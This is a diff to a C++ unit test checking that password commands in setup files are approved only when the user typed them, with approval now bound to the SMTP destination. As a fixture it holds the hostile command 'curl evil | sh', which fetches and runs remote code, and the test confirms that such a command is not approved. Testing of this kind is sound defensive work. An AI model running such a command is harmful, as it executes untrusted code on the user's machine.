@@ -290,7 +290,7 @@ TEST(FileCommands, SavingATypedPasswordCommandApprovesItForThatFile)
     ui.FillRows();
     ui.FileChoices.push_back(saved);
     FileSaveAs(document, ui);
-    EXPECT_TRUE(IsCommandApproved(saved, "pass show mail"));
+    EXPECT_TRUE(IsCommandApproved(saved, "pass show mail", SmtpDestination(document.Setup)));
     EXPECT_EQ(document.PasswordCommandFromFile, "pass show mail");
 
     // Read from a file, the same command is not the user's own work: Save As elsewhere does not approve
@@ -298,10 +298,10 @@ TEST(FileCommands, SavingATypedPasswordCommandApprovesItForThatFile)
     const std::string copy = dir.File("copy.tpf");
     ui.FileChoices.push_back(copy);
     FileSaveAs(document, ui);
-    EXPECT_FALSE(IsCommandApproved(copy, "pass show mail"));
+    EXPECT_FALSE(IsCommandApproved(copy, "pass show mail", SmtpDestination(document.Setup)));
     document.Setup.SmtpPasswordCommand = "pass show other";
     EXPECT_TRUE(FileSave(document, ui));
-    EXPECT_TRUE(IsCommandApproved(copy, "pass show other"));
+    EXPECT_TRUE(IsCommandApproved(copy, "pass show other", SmtpDestination(document.Setup)));
 
     // A file opened is not approved by the opening.
     GameSetup foreign;
@@ -311,5 +311,5 @@ TEST(FileCommands, SavingATypedPasswordCommandApprovesItForThatFile)
     ASSERT_TRUE(ReadSetupFile(posted, document, ui));
     EXPECT_EQ(document.PasswordCommandFromFile, "curl evil | sh");
     EXPECT_TRUE(FileSave(document, ui));
-    EXPECT_FALSE(IsCommandApproved(posted, "curl evil | sh"));
+    EXPECT_FALSE(IsCommandApproved(posted, "curl evil | sh", SmtpDestination(document.Setup)));
 }
